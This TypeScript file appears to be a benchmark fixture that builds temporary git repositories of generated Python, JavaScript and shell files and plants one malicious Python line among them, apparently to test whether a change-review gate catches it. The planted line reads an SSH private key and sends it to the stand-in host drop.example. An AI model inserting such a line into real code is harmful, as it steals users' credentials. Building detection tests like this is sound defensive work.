import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

/** A repository that a bench makes, with a folder for its caches. */
export interface BenchRepository {
  readonly folder: string;
  /** The commit that the change is held against. */
  readonly base: string;
  /** Where the one malicious line stands. */
  readonly malicious: { readonly file: string; readonly line: number };
}

export function inRepository<Result>(
  make: (folder: string) => Omit<BenchRepository, 'folder'>,
  use: (repository: BenchRepository) => Promise<Result>,
): Promise<Result> {
  const folder = mkdtempSync(join(tmpdir(), 'glovebox-bench-gate-'));
  const made = make(folder);
  return use({ folder, ...made }).finally(() => rmSync(folder, { recursive: true, force: true }));
}

const MALICIOUS =
  "    urllib.request.urlopen('https://drop.example/u', open('/home/user/.ssh/id_rsa').read().encode())";

/** Sixty programs and modules, every one changed by one of ten commits, and in one of them a line that sends a key away. */
export function tenCommits(folder: string): Omit<BenchRepository, 'folder'> {
  const git = gitIn(folder);
  const files = Array.from({ length: 60 }, (_, index) => sourceOf(index));
  write(
    folder,
    files.map(({ path, text }) => [path, text(0)]),
  );
  const base = commit(git, 'All of it');
  const [first] = files;
  if (first === undefined) throw new Error('no files');
  for (let round = 0; round < 10; round++) {
    const part = files.slice(round * 6, round * 6 + 6);
    write(
      folder,
      part.map(({ path, text }) => [path, text(1)]),
    );
    if (round === 4)
      write(folder, [[first.path, `${first.text(1)}\n\ndef sync(name):\n${MALICIOUS}\n\n\nsync('x')\n`]]);
    commit(git, `Step ${round + 1}`);
  }
  const line = first.text(1).split('\n').length + 3;
  return { base, malicious: { file: first.path, line } };
}

/** Thousands of changed files in one commit, among them one with such a line. */
export function manyFiles(count: number): (folder: string) => Omit<BenchRepository, 'folder'> {
  return (folder) => {
    const git = gitIn(folder);
    const files = Array.from({ length: count }, (_, index) => sourceOf(index));
    write(
      folder,
      files.map(({ path, text }) => [path, text(0)]),
    );
    const base = commit(git, 'All of it');
    write(
      folder,
      files.map(({ path, text }) => [path, text(1)]),
    );
    const [first] = files;
    if (first !== undefined)
      write(folder, [[first.path, `${first.text(1)}\n\ndef sync(name):\n${MALICIOUS}\n\n\nsync('x')\n`]]);
    commit(git, 'Change all of it');
    return { base, malicious: { file: first?.path ?? '', line: 0 } };
  };
}

interface Source {
  readonly path: string;
  /** What it says before the change and after it. */
  readonly text: (version: 0 | 1) => string;
}

/** As a repository has them: more Python than JavaScript, some shell. Every third Python file imports the one before it. */
function sourceOf(index: number): Source {
  const folder = `part${Math.floor(index / 20)}`;
  if (index % 10 === 7) return { path: `${folder}/step${index}.sh`, text: (version) => shell(index, version) };
  if (index % 10 >= 8) return { path: `${folder}/module${index}.js`, text: (version) => javascript(index, version) };
  return { path: `${folder}/module${index}.py`, text: (version) => python(index, version) };
}

function python(index: number, version: number): string {
  const imported = index % 3 === 2 && index % 10 !== 0 && index % 10 < 7 ? `import module${index - 1}\n` : '';
  return `import json
import sys
import urllib.request
${imported}

LIMIT = ${10 + version}


def rows${index}(text):
    """Rows of a table, without the empty ones."""
    return [line.split(',') for line in text.splitlines()[:LIMIT] if line.strip()]


def total${index}(rows):
    return sum(len(row) for row in rows)


def main(arguments):
    table = rows${index}('a,b\\nc,d\\n' * ${3 + version})
    print(json.dumps({'total': total${index}(table), 'arguments': len(arguments)}))


if __name__ == '__main__':
    main(sys.argv[1:])
`;
}

function javascript(index: number, version: number): string {
  return `const { readFileSync } = require('node:fs');
const { join } = require('node:path');

const LIMIT = ${10 + version};

function rows${index}(text) {
  return text.split('\\n').slice(0, LIMIT).filter(Boolean).map((line) => line.split(','));
}

console.log(JSON.stringify(rows${index}('a,b\\nc,d\\n').map((row) => join(...row))), typeof readFileSync);
module.exports = { rows${index} };
`;
}

function shell(index: number, version: number): string {
  return `#!/bin/sh
set -eu
limit=${10 + version}
for name in a b c; do
  echo "step ${index} $name of $limit"
done
`;
}

function write(folder: string, files: readonly (readonly [string, string])[]): void {
  for (const [path, text] of files) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

type Git = (...args: string[]) => string;

function gitIn(folder: string): Git {
  const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
  const git: Git = (...args) =>
    execFileSync('git', args, { cwd: folder, env, maxBuffer: 1 << 28 })
      .toString()
      .trim();
  git('init', '-q', '-b', 'main');
  git('config', 'user.name', 'Bench');
  git('config', 'user.email', 'bench@example.com');
  return git;
}

function commit(git: Git, message: string): string {
  git('add', '-A');
  git('commit', '-q', '-m', message);
  return git('rev-parse', 'HEAD');
}
